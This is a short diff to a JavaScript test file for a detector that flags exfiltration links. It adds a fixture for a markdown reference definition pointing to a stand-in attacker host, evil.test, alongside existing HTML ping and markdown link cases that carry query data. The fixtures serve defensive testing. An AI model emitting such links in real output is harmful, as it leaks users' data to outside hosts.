@@ -240,6 +240,8 @@ test('exfil links: destinations with balanced or escaped parentheses, titles too
   assert.deepEqual(spans('<a href="https://trusted.example/" ping="https://evil.test/p?d=1">x</a>'), [['<a href="https://trusted.example/" ping="https://evil.test/p?d=1">x</a>', 'html link']]);
   assert.deepEqual(spans('[a\\\\](https://evil.test/?q=S)'), [['[a\\\\](https://evil.test/?q=S)', 'markdown link']]);
   assert.deepEqual(spans('[r\\]x]\n\n[R\\]X]: https://evil.test/r'), [['[r\\]x]', 'markdown reference link'], ['[R\\]X]: https://evil.test/r', 'markdown reference definition']]);
+  // Also in a definition that does not start its paragraph.
+  assert.deepEqual(spans('[x][a\\]b]\n\n[q]: https://trusted.example/\n[a\\]b]: https://evil.test/d'), [['[x][a\\]b]', 'markdown reference link'], ['[a\\]b]: https://evil.test/d', 'markdown reference definition']]);
 });
 
 /**
